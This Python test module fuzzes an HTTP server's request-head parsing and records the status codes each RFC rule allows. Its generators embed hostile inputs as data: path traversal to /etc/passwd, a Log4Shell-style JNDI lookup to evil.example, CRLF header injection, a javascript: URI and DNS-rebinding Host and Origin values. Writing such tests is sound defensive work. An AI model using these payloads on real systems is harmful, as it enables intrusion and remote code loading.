"""Heads of requests: request lines, targets, header lines, hosts, sizes."""

from __future__ import annotations

import random
from collections.abc import Iterable

from tests.hostile.case import (
    CLOSED,
    Draft,
    Outcome,
    chosen,
    cut,
    head,
    kinds_of,
    legacy,
    modern,
    picked,
    rendered,
    token,
)
from tests.tables import listed

HOST = [("Host", "localhost")]


def health(
    rng: random.Random,
    rule: str,
    allowed: Iterable[Outcome],
    *,
    line: str = "GET /health HTTP/1.1",
    fields: list[tuple[str, str]] | None = None,
    raw: bytes | None = None,
    closes: bool | None = None,
    bodiless: bool = False,
) -> Draft:
    """Draft a request for what is at ``/health``, with something else in its place."""
    data = head(rng, line, HOST if fields is None else fields) if raw is None else raw
    return Draft(rule, allowed, cut(rng, data), closes=closes, bodiless=bodiless)


def with_line(rng: random.Random, raw: bytes) -> bytes:
    """Return a whole head with one header line, of any bytes, somewhere in it."""
    lines = [b"GET /health HTTP/1.1", b"Host: localhost", b"X-A: b"]
    lines.insert(rng.randint(1, 3), raw)
    return b"\r\n".join(lines) + b"\r\n\r\n"


# --- the request line -------------------------------------------------------------------------------------------


def unknown_method(rng: random.Random) -> Draft:
    method = chosen(
        rng, "PUT", "PATCH", "TRACE", "OPTIONS", "HEAD", "PROPFIND", "M-SEARCH", token(rng).upper(), "!#$%&'"
    )
    rule = "RFC 9110, 9.1, 15.5.6: known and not allowed is 405, unknown may be 501"
    return health(rng, rule, {405, 501}, line=f"{method} /mcp HTTP/1.1", bodiless=method == "HEAD")


def method_elsewhere(rng: random.Random) -> Draft:
    method = chosen(rng, "POST", "DELETE", "PUT", "OPTIONS", token(rng).upper())
    rule = "RFC 9110, 15.5.5, 15.5.6: 405, or 404 from a server that does not say"
    return health(rng, rule, {404, 405, 501}, line=f"{method} /health HTTP/1.1")


def method_case(rng: random.Random) -> Draft:
    method = chosen(rng, "get", "Get", "gET", "head", "geT")
    rule = "RFC 9110, 9.1: the method is case-sensitive"
    return health(rng, rule, {400, 404, 405, 501}, line=f"{method} /health HTTP/1.1")


def method_no_token(rng: random.Random) -> Draft:
    bad = chosen(rng, "\x00", "\x7f", "(", ")", ",", "/", ":", ";", "<", "=", "@", "[", "\\", "{", '"', "\xe9", "\x01")
    method = token(rng).upper() + bad + token(rng, 0, 3).upper()
    rule = "RFC 9112, 3: an invalid request-line is 400"
    return health(rng, rule, {400, 501}, line=f"{method} /health HTTP/1.1", closes=True)


def method_long(rng: random.Random) -> Draft:
    rule = "RFC 9112, 3: a method longer than any SHOULD be 501"
    line = f"{'M' * rng.randint(100, 6000)} /health HTTP/1.1"
    return health(rng, rule, {400, 404, 405, 431, 501}, line=line)


def connect(rng: random.Random) -> Draft:
    target = chosen(rng, "localhost:80", "evil.example:443", "/mcp", "*", "http://localhost/")
    rule = "RFC 9110, 9.3.6: an origin server may implement no CONNECT"
    return health(rng, rule, {400, 403, 404, 405, 501}, line=f"CONNECT {target} HTTP/1.1")


def version_zero(rng: random.Random) -> Draft:
    return health(rng, "RFC 9112, 9.3: HTTP/1.0 does not persist", {200}, line="GET /health HTTP/1.0", closes=True)


def version_minor(rng: random.Random) -> Draft:
    line = f"GET /health HTTP/1.{rng.randint(2, 9)}"
    return health(rng, "RFC 9110, 2.5: a higher minor version is served as 1.1", {200, 505}, line=line)


def version_major(rng: random.Random) -> Draft:
    line = f"GET /health HTTP/{chosen(rng, '2.0', '3.0', '0.9', '9.9', '4.1')}"
    return health(rng, "RFC 9110, 15.6.6: another major version is 505", {400, 505}, line=line, closes=True)


def version_garbled(rng: random.Random) -> Draft:
    version = picked(
        rng, "HTTP/1.10 | HTTP/1 | http/1.1 | HTTP/01.1 | HTTP/1.1x | HTTP/1,1 | HTTPS/1.1 | HTTP/+1.1 | 1.1 | HTTP/"
    )
    rule = "RFC 9112, 2.3 and 3: an invalid request-line is 400"
    return health(rng, rule, {400, 505}, line=f"GET /health {version}", closes=True)


def line_spaces(rng: random.Random) -> Draft:
    line = picked(
        rng,
        "GET  /health HTTP/1.1 | GET /health  HTTP/1.1 | GET\t/health\tHTTP/1.1 | "
        " GET /health HTTP/1.1 | GET /health HTTP/1.1  | GET /health HTTP/1.1\t | "
        "GET\x0b/health HTTP/1.1 | GET\r/health HTTP/1.1",
    )
    return health(rng, "RFC 9112, 3: white space may be parsed leniently, else 400", {200, 400}, line=line)


def line_short(rng: random.Random) -> Draft:
    line = chosen(
        rng, "GET", "GET ", "GET /health", "GET HTTP/1.1", "/health HTTP/1.1", "HTTP/1.1", "HTTP/1.1 200 OK", ":"
    )
    return health(rng, "RFC 9112, 3: an invalid request-line is 400", {400}, line=line, closes=True)


def line_empty_before(rng: random.Random) -> Draft:
    raw = chosen(rng, b"\r\n", b"\r\n\r\n", b"\n", b"\r\n" * 20) + head(rng, "GET /health HTTP/1.1", HOST)
    return health(
        rng, "RFC 9112, 2.2: empty lines before a request SHOULD be ignored, at least one", {200, 400}, raw=raw
    )


# --- targets ----------------------------------------------------------------------------------------------------


def target_space(rng: random.Random) -> Draft:
    target = chosen(
        rng, "/he alth", "/health ?a", "/health?a b", "/ health", "/health\x00", "/hea\x01lth", "/hea\x7flth"
    )
    rule = "RFC 9112, 3.2: an invalid request-line is 400"
    return health(rng, rule, {400}, line=f"GET {target} HTTP/1.1", closes=True)


def target_bytes(rng: random.Random) -> Draft:
    letters = "".join(chr(rng.randint(0x80, 0xFF)) for _ in range(rng.randint(1, 8)))
    rule = "RFC 9112, 3.2; RFC 3986: a target is ASCII"
    return health(rng, rule, {400}, line=f"GET /{letters} HTTP/1.1", closes=True)


def target_unknown(rng: random.Random) -> Draft:
    target = chosen(
        rng,
        "/",
        "/" + token(rng),
        "/health/" + token(rng),
        "/mcp/" + token(rng),
        *listed(
            "/healthz | /mcp%00 | /mcp%2Fx | /% | /%zz | /%ff%fe | /%C0%AF | /mcp;a=b | /.git/config | "
            "/cgi-bin/%%32%65%%32%65/etc/passwd | /health%20 | /health%0d%0aSet-Cookie:a=b"
        ),
        "/" + "%2e%2e/" * rng.randint(1, 50) + "etc/passwd",
        "/${jndi:ldap://evil.example/a}",
        "/" + "a/" * rng.randint(1, 2000),
        "/?" + "&".join(f"{token(rng)}={token(rng)}" for _ in range(rng.randint(1, 200))),
    )
    rule = "RFC 9110, 15.5.5; RFC 3986: there is no such resource, or no such URI"
    return health(rng, rule, {400, 404}, line=f"GET {target} HTTP/1.1")


def target_same(rng: random.Random) -> Draft:
    escaped = "".join(chosen(rng, letter, f"%{ord(letter):02x}", f"%{ord(letter):02X}") for letter in "health")
    target = chosen(
        rng, f"/{escaped}", "/health?", "/health?a=b&" + token(rng), "/health/", "/health?/../mcp", "/health?%"
    )
    rule = "RFC 9110, 4.2.3: escapes of unreserved characters mean the character; the query does not belong to the path"
    return health(rng, rule, {200}, line=f"GET {target} HTTP/1.1", closes=False)


def target_dots(rng: random.Random) -> Draft:
    target = chosen(
        rng, "/./health", "/mcp/../health", "//health", "/../health", "/health/.", "/a/../../health", "/.//health"
    )
    rule = "RFC 3986, 6.2.2.3: dots may be removed; if not, there is nothing"
    return health(rng, rule, {200, 400, 404}, line=f"GET {target} HTTP/1.1")


def target_fragment(rng: random.Random) -> Draft:
    line = f"GET /health{chosen(rng, '#', '#a', '?a#b')} HTTP/1.1"
    return health(rng, "RFC 9112, 3.2: a target has no fragment", {400, 404, 200}, line=line)


def target_absolute(rng: random.Random) -> Draft:
    rest = chosen(rng, "/health", "/health?a=b")
    line = f"GET {chosen(rng, 'http', 'HTTP')}://{chosen(rng, 'localhost', 'LOCALHOST:80', '127.0.0.1')}{rest} HTTP/1.1"
    host = chosen(rng, "localhost", "127.0.0.1", "evil.example")
    rule = "RFC 9112, 3.2.2: a server MUST take the absolute form, and the host of it instead of the field's"
    return health(rng, rule, {200}, line=line, fields=[("Host", host)], closes=False)


def target_absolute_foreign(rng: random.Random) -> Draft:
    authority = chosen(rng, "evil.example", "localhost.evil.example", "localhost@evil.example", "127.0.0.2", "[::2]:80")
    rule = "RFC 9112, 3.2.2; S, Security Warning: the host of the target counts, and it is foreign"
    message = modern(rng)
    message.target = f"http://{authority}/mcp"
    return Draft(rule, {400, 403, 421}, rendered(rng, message))


def target_absolute_broken(rng: random.Random) -> Draft:
    target = picked(
        rng,
        "http:// | http:///mcp | http://user:pass@localhost/mcp | http:/mcp | http:mcp | "
        "ftp://localhost/mcp | file:///mcp | http://local host/mcp | http://[::1/mcp | "
        "http://localhost:x/mcp | javascript:alert(1) | ://localhost/mcp | http://localhost:80:80/mcp | "
        "http://?/mcp | http://#/mcp | http://localhost\\@evil.example/mcp",
    )
    message = modern(rng)
    message.target = target
    rule = "RFC 9110, 4.2.1, 4.2.4; RFC 9112, 3.2: an invalid target is 400; nothing is at another one"
    return Draft(rule, {400, 403, 404, 421}, rendered(rng, message))


def target_other_form(rng: random.Random) -> Draft:
    target = chosen(rng, "*", "localhost:80", "mcp", "health", "?", "@")
    line = f"{chosen(rng, 'GET', 'OPTIONS', 'DELETE')} {target} HTTP/1.1"
    return health(
        rng, "RFC 9112, 3.2: authority and asterisk forms are of other methods", {400, 404, 405, 501}, line=line
    )


def target_long(rng: random.Random) -> Draft:
    line = f"GET /{'a' * rng.randint(70_000, 200_000)} HTTP/1.1"
    return health(rng, "RFC 9112, 3: a target longer than any MUST be answered with 414", {414}, line=line, closes=True)


def target_longish(rng: random.Random) -> Draft:
    line = f"GET /{'a' * rng.randint(2000, 7800)} HTTP/1.1"
    return health(rng, "RFC 9112, 3: 8000 octets of a request line are to be taken", {404}, line=line)


# --- header lines -----------------------------------------------------------------------------------------------


def name_invalid(rng: random.Random) -> Draft:
    bad = chosen(rng, *(bytes([value]) for value in b'\x00\x01\x0b\x7f"(),/;<=>?@[\\]{}\xe9\xff'))
    name = token(rng, 0, 4).encode() + bad + token(rng, 0, 4).encode()
    rule = "RFC 9110, 5.1; RFC 9112, 2.2: no message matches the grammar, so it is 400"
    return health(rng, rule, {400}, raw=with_line(rng, name + b": x"), closes=True)


def name_space(rng: random.Random) -> Draft:
    name = chosen(rng, b"X-B", b"Content-Length", b"Transfer-Encoding", b"Host")
    raw = with_line(rng, name + chosen(rng, b" ", b"\t", b"  ", b" \t") + b": 0")
    rule = "RFC 9112, 5.1: white space between name and colon MUST be refused with 400"
    return health(rng, rule, {400}, raw=raw, closes=True)


def name_missing(rng: random.Random) -> Draft:
    line = chosen(rng, b": x", b":", b"no colon", token(rng).encode(), b"\x00", b"::", b"=")
    if line == b"::":
        line = b":: x"
    return health(
        rng, "RFC 9112, 5: a line is name, colon, value; else 400", {400}, raw=with_line(rng, line), closes=True
    )


def first_line_folded(rng: random.Random) -> Draft:
    space = chosen(rng, b" ", b"\t", b"   ")
    raw = b"GET /health HTTP/1.1\r\n" + space + b"X-B: c\r\nHost: localhost\r\n\r\n"
    rule = "RFC 9112, 2.2: white space before the first field: reject it, or skip such lines"
    return health(rng, rule, {200, 400}, raw=raw)


def folded(rng: random.Random) -> Draft:
    raw = with_line(
        rng, b"X-B: c\r\n" + chosen(rng, b" ", b"\t", b" \t ") + chosen(rng, b"d", b"Host: evil.example", b"")
    )
    return health(rng, "RFC 9112, 5.2: line folding is refused with 400 or replaced with spaces", {200, 400}, raw=raw)


def value_forbidden(rng: random.Random) -> Draft:
    bad = chosen(rng, b"\x00", b"\r")
    rule = "RFC 9110, 5.5; RFC 9112, 2.2: CR and NUL in a value are refused or replaced"
    raw = with_line(rng, b"X-B: c" + bad + token(rng).encode() + chosen(rng, b"", b": d"))
    return health(rng, rule, {200, 400}, raw=raw)


def value_control(rng: random.Random) -> Draft:
    bad = bytes([chosen(rng, *range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)])
    rule = "RFC 9110, 5.5: other control characters are invalid, and may be kept"
    return health(rng, rule, {200, 400}, raw=with_line(rng, b"X-B: c" + bad + b"d"))


def value_obs_text(rng: random.Random) -> Draft:
    value = bytes(rng.randint(0x80, 0xFF) for _ in range(rng.randint(1, 40)))
    return health(
        rng, "RFC 9110, 5.5: obs-text is opaque data", {200}, raw=with_line(rng, b"X-B: c" + value), closes=False
    )


def bare_line_feeds(rng: random.Random) -> Draft:
    raw = b"GET /health HTTP/1.1\nHost: localhost\n" + chosen(rng, b"", b"X-B: c\n") + b"\n"
    return health(rng, "RFC 9112, 2.2: a single LF may end a line", {200, 400}, raw=raw)


def many_fields(rng: random.Random) -> Draft:
    lines = b"".join(b"X-%d: y\r\n" % number for number in range(rng.randint(12_000, 40_000)))
    raw = b"GET /health HTTP/1.1\r\nHost: localhost\r\n" + lines + b"\r\n"
    rule = "RFC 6585, 5; RFC 9110, 5.4: fields that are too large are a 4xx; 431 says so"
    return health(rng, rule, {400, 431}, raw=raw, closes=True)


def long_field(rng: random.Random) -> Draft:
    name = chosen(rng, b"X-B", b"Cookie", b"Mcp-Session-Id", b"Accept", b"Host", b"X" * rng.randint(70_000, 200_000))
    raw = with_line(rng, name + b": " + b"y" * rng.randint(70_000, 200_000))
    return health(
        rng, "RFC 6585, 5; RFC 9110, 5.4: a field that is too large is a 4xx", {400, 431}, raw=raw, closes=True
    )


def some_fields(rng: random.Random) -> Draft:
    raw = with_line(rng, b"X-B: " + b"y" * rng.randint(1000, 7000))
    return health(rng, "RFC 9110, 5.4: what is not too large is served", {200}, raw=raw, closes=False)


# --- Host and Origin --------------------------------------------------------------------------------------------


def host_missing(rng: random.Random) -> Draft:
    return health(rng, "RFC 9112, 3.2: no Host is 400", {400}, fields=[("X-A", "b")], closes=True)


def host_missing_in_1_0(rng: random.Random) -> Draft:
    message = modern(rng).set("Host")
    data = b"".join(rendered(rng, message)).replace(b" HTTP/1.1\r\n", b" HTTP/1.0\r\n", 1)
    if b"hunked" in data:
        return host_missing(rng)
    return Draft("S, Security Warning: whose name is not known may not call", {400, 403}, cut(rng, data), closes=True)


def host_twice(rng: random.Random) -> Draft:
    second = chosen(rng, "localhost", "evil.example", "")
    rule = "RFC 9112, 3.2: more than one Host is 400"
    return health(rng, rule, {400}, fields=[("Host", "localhost"), ("Host", second)], closes=True)


def host_invalid(rng: random.Random) -> Draft:
    host = picked(
        rng,
        "local host | localhost, localhost | user@localhost | localhost/ | localhost:80:80 | "
        "localhost:x | http://localhost | localhost? | localhost# | [::1 | ::1 | [::1]x | localhost\\ | "
        "localhost:-1 | loc\xe9lhost | <localhost> | localhost%",
    )
    message = modern(rng).set("Host", host)
    rule = "RFC 9112, 3.2: a Host with an invalid value is 400; S, Security Warning: a foreign one is 403"
    return Draft(rule, {400, 403}, rendered(rng, message))


def host_foreign(rng: random.Random) -> Draft:
    host = chosen(
        rng,
        *listed(
            "evil.example | localhost.evil.example | evil.example:80 | 127.0.0.1.nip.io | 0.0.0.0 | "
            "2130706433 | 127.1 | localhost.localdomain | [::2] |  | xlocalhost"
        ),
        token(rng) + ".example",
    )
    message = chosen(rng, modern, legacy)(rng).set("Host", host)
    return Draft(
        "S, Security Warning: a foreign host is refused, against DNS rebinding", {400, 403}, rendered(rng, message)
    )


def host_spelt(rng: random.Random) -> Draft:
    host = chosen(
        rng, "LOCALHOST", "LocalHost:8000", "localhost:", "127.0.0.1:1", "[::1]", "[::1]:80", "localhost:65535"
    )
    rule = "RFC 9110, 4.2.3: a host has no case, and any port is this server's"
    return Draft(rule, {200}, rendered(rng, modern(rng).set("Host", host)), closes=False)


def origin_foreign(rng: random.Random) -> Draft:
    origins = chosen(
        rng,
        *(
            [each]
            for each in listed(
                "http://evil.example | https://localhost.evil.example | null |  | "
                "http://localhost:80@evil.example | http://localhost evil | localhost | http://"
            )
        ),
        ["http://localhost/", "http://evil.example"],
        ["http://localhost", "http://evil.example"],
        ["file://"],
        ["http://localhost#.evil.example"],
        ["http://localhost\xe9"],
        ["http://" + "a" * 5000],
        [f"https://{token(rng)}.example:{rng.randint(1, 65535)}"],
    )
    message = chosen(rng, modern, legacy)(rng).set("Origin", *origins)
    return Draft("S, Security Warning: an invalid Origin MUST be answered with 403", {400, 403}, rendered(rng, message))


def origin_own(rng: random.Random) -> Draft:
    origin = chosen(rng, "http://localhost", "http://LOCALHOST:3000", "https://127.0.0.1:8443", "http://[::1]:5173")
    rule = "S, Security Warning: the server's own origins are valid"
    return Draft(rule, {200}, rendered(rng, modern(rng).set("Origin", origin)), closes=False)


# --- no request at all ------------------------------------------------------------------------------------------


def garbage(rng: random.Random) -> Draft:
    data = chosen(
        rng,
        rng.randbytes(rng.randint(1, 2000)),
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + rng.randbytes(300),
        b"SSH-2.0-OpenSSH_9.7\r\n",
        b"EHLO evil.example\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + rng.randbytes(rng.randint(0, 100)),
        b"\x00" * rng.randint(1, 5000),
        b"\xff" * rng.randint(1, 5000),
        b"*1\r\n$4\r\nPING\r\n",
        b'{"jsonrpc":"2.0","id":1,"method":"ping"}\n',
        b"GET /health\r\n",
        b"\x80\x2e\x01\x00\x02" + rng.randbytes(41),
        "ПРИВЕТ / HTTP/1.1\r\n\r\n".encode(),
    )
    rule = "RFC 9112, 2.2, 3: what is not a request gets 400 and a close, or just a close"
    allowed = {400, 431, 505, CLOSED}
    return Draft(rule, allowed, cut(rng, data), closes=True, probe=False, shut=True)


def endless_line(rng: random.Random) -> Draft:
    letter = chosen(rng, b"x", b"\x00", b"\xff", b"G")
    rule = "RFC 9112, 3: no request-line is that long; 400, or by what of it is too long 414, 431, 501"
    data = letter * rng.randint(70_000, 300_000)
    return Draft(rule, {400, 414, 431, 501}, cut(rng, data), closes=True, probe=False)


def nothing(rng: random.Random) -> Draft:
    data = chosen(rng, b"", b"\r\n", b"\n", b"G", b"GET / HT")
    return Draft(
        "RFC 9112, 8: no whole head, no request",
        {400, CLOSED},
        [data] if data else [],
        closes=True,
        probe=False,
        shut=True,
    )


KINDS = kinds_of(__name__)
